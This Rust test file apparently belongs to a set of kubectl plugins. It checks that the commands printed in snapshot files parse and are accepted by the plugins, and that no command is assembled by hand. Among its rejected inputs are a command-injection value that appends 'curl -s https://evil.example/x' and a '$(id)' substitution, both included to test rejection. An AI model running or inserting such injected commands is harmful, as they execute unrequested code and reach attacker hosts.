//! Every command that is printed can be pasted: a shell takes its words as they are meant, and the program that they name, a plugin
//! or kubectl itself, takes its arguments.
//!
//! The programs are run against an API server that is not there. What does not get as far as asking it was refused before, by
//! the program's own parser or its own rules.

use std::collections::BTreeMap;
use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use crate::commands::{told, words};
use cli_tests::Session;

/// Where nothing listens.
const NOWHERE: &str = "127.0.0.1:1";

const PLUGINS: [&str; 4] = ["share-db", "proxy-db", "expose-app", "deploy-app"];

/// What stands for something of the user's own, and an example of it.
const EXAMPLES: [(&str, &str); 11] = [
    ("AMOUNT", "128Mi"),
    ("APP", "web"),
    ("DATABASE", "pg"),
    ("DURATION", "1h"),
    ("GATEWAY", "shared"),
    ("IMAGE", "web:2"),
    ("NAME", "web"),
    ("NAMESPACE", "user-bob"),
    ("NUMBER", "8000"),
    ("PORT", "8000"),
    ("USER", "bob"),
];

const MANIFEST: &str = "apiVersion: v1
kind: Pod
metadata: {name: web}
spec: {containers: [{name: web, image: 'web:1'}]}
";

/// What shows that a program has come as far as the API server, or to what it reads before.
const GOT_SO_FAR: [&str; 8] = [
    NOWHERE,
    // Files that this test does not have, and a context.
    "no such file or directory",
    "no such file",
    "no context exists",
    "kustomization.yaml",
    "must build at directory",
    "failed to find any PEM data",
    // A person who would type a secret.
    "there is no terminal to ask on",
];

/// Somebody at a machine with both.
struct Typist {
    session: Session,
    kubectl: PathBuf,
}

impl Typist {
    fn new() -> Self {
        let mut session = Session::at(&format!("https://{NOWHERE}"), "nowhere");
        // Registries are not asked.
        session.env("HTTPS_PROXY", format!("http://{NOWHERE}"));
        for file in ["FILE", "app.yaml", "app.toml", "k8s/app.yaml"] {
            session.write(file, MANIFEST);
        }
        Self {
            session,
            kubectl: test_cluster::programs::kubectl().unwrap(),
        }
    }

    /// What is wrong with a line, if anything is.
    fn fault(&self, line: &str) -> Option<String> {
        // A pipeline knows it.
        let line = line.replace("$CI_COMMIT_SHORT_SHA", "1");
        let commands = match words(&line) {
            Ok(commands) => commands,
            Err(why) => return Some(why),
        };
        commands
            .iter()
            .filter(|words| words.first().is_some_and(|word| word == "kubectl"))
            .find_map(|words| self.refused(&words[1..]))
    }

    /// What a program says against these arguments.
    fn refused(&self, words: &[String]) -> Option<String> {
        let plugin = PLUGINS.iter().find(|plugin| words[0] == **plugin);
        let args: Vec<String> = words.iter().map(|word| filled(word)).collect();
        // A program that is only named is none to run.
        if args.len() < 2 {
            let is_known = plugin.is_some() || args == ["port-forward"] || args == ["scale"];
            return (!is_known).then(|| "there is no such command".to_owned());
        }
        let mut command = match plugin {
            Some(plugin) => self.session.command(plugin, &args[1..]),
            None => self.kubectl(&args),
        };
        let (code, said) = run(&mut command);
        let is_taken = code == Some(0) || GOT_SO_FAR.iter().any(|so_far| said.contains(so_far));
        (!is_taken).then_some(said)
    }

    fn kubectl(&self, args: &[String]) -> Command {
        let home = self.session.write("work/.keep", "");
        let home = home.parent().and_then(Path::parent).unwrap();
        let mut command = Command::new(&self.kubectl);
        command
            .args(args)
            .env_clear()
            .env("HOME", home)
            .env("PATH", "/usr/bin:/bin")
            .current_dir(home)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        command
    }
}

/// A word with examples in the place of what stands for them: `deployment/NAME`.
fn filled(word: &str) -> String {
    let parts = word.split_inclusive(['/', '=', ':']).map(|part| {
        let name = part.trim_end_matches(['/', '=', ':']);
        let example = EXAMPLES.iter().find(|(known, _)| *known == name);
        example.map_or(part.to_owned(), |(_, example)| part.replace(name, example))
    });
    parts.collect()
}

/// The exit code and all that is said; what is read from standard input is a manifest.
fn run(command: &mut Command) -> (Option<i32>, String) {
    let mut child = command.stdin(Stdio::piped()).spawn().unwrap();
    // Most read nothing.
    let _ = child.stdin.take().unwrap().write_all(MANIFEST.as_bytes());
    let output = child.wait_with_output().unwrap();
    let said = [output.stdout, output.stderr].concat();
    let said = String::from_utf8_lossy(&said).into_owned();
    (output.status.code(), said)
}

/// All snapshots of the repository, with the commands that each tells.
fn snapshots() -> BTreeMap<String, Vec<PathBuf>> {
    fn look(folder: &Path, found: &mut BTreeMap<String, Vec<PathBuf>>) {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() && !path.ends_with("target") {
                look(&path, found);
            } else if path
                .extension()
                .is_some_and(|extension| extension == "snap")
            {
                for command in told(&std::fs::read_to_string(&path).unwrap()) {
                    found.entry(command).or_default().push(path.clone());
                }
            }
        }
    }
    let tests = Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap();
    let mut found = BTreeMap::new();
    for folder in [tests, &tests.join("../plugins")] {
        look(folder, &mut found);
    }
    found
}

#[test]
fn every_command_that_is_printed_is_taken() {
    let typist = Typist::new();
    let commands: Vec<(String, Vec<PathBuf>)> = snapshots().into_iter().collect();
    assert!(commands.len() > 90, "{} commands", commands.len());
    let faults: Vec<String> = std::thread::scope(|scope| {
        let parts = commands.chunks(commands.len().div_ceil(4));
        let running: Vec<_> = parts
            .map(|part| scope.spawn(|| faults(&typist, part)))
            .collect();
        running
            .into_iter()
            .flat_map(|part| part.join().unwrap())
            .collect()
    });
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

fn faults(typist: &Typist, commands: &[(String, Vec<PathBuf>)]) -> Vec<String> {
    commands
        .iter()
        .filter_map(|(command, files)| {
            let why = typist.fault(command)?;
            let file = files[0].file_name().unwrap_or_default();
            Some(format!("`{command}` in {}: {why}", file.display()))
        })
        .collect()
}

#[test]
fn a_wrong_command_is_seen() {
    let typist = Typist::new();
    for right in [
        "kubectl share-db revoke pg --with bob -n user-alice",
        "kubectl proxy-db user-alice/pg -- psql",
        "kubectl expose-app web --tls secret=NAME",
        "kubectl deploy-app web --memory AMOUNT --port PORT",
        "kubectl deploy-app -f FILE --image IMAGE",
        "kubectl get pods -n user-alice -o wide",
        "kubectl set image deployment/web '*=IMAGE'",
        "kubectl get ingress -o yaml | grep issuer",
        "kubectl share-db",
    ] {
        assert_eq!(typist.fault(right), None, "{right}");
    }
    for wrong in [
        "kubectl share-db revoke pg --wiht bob",
        "kubectl share-db revoke pg --with bob; curl -s https://evil.example/x",
        "kubectl share-db revoke pg --with $(id)",
        "kubectl proxy-db user-alice/pg --port many",
        "kubectl expose-app web --tls somehow",
        "kubectl expose-app remove",
        "kubectl deploy-app web --env HOST",
        "kubectl deploy-app list web",
        "kubectl get pods --all-the-namespaces",
        "kubectl gte pods",
        "kubectl rollout upside deployment/web",
        "kubectl port-forward deployment/web",
        "kubectl create secret tls --cert=FILE --key=FILE",
        "kubectl get pods | kubectl deploy-app -f",
        "kubectl share-database",
    ] {
        assert!(typist.fault(wrong).is_some(), "{wrong}");
    }
}

/// A command into which a text of others is put by hand is not quoted where that needs it: `shell` puts commands together.
#[test]
fn no_command_is_put_together_by_hand() {
    fn sources(folder: &Path, found: &mut Vec<PathBuf>) {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() && !path.ends_with("tests") {
                sources(&path, found);
            } else if path.extension().is_some_and(|extension| extension == "rs") {
                found.push(path);
            }
        }
    }
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let mut found = Vec::new();
    sources(&root.join("shared"), &mut found);
    sources(&root.join("plugins"), &mut found);
    assert!(found.len() > 150, "{} files", found.len());
    let by_hand = |line: &&str| {
        let mut quoted = line.split('`').skip(1).step_by(2);
        !line.trim_start().starts_with("//")
            && quoted.any(|text| text.starts_with("kubectl ") && text.contains('{'))
    };
    for path in found {
        let text = std::fs::read_to_string(&path).unwrap();
        let code = text.split("#[cfg(test)]").next().unwrap_or_default();
        let line = code.lines().find(by_hand);
        assert_eq!(line, None, "{}", path.display());
    }
}
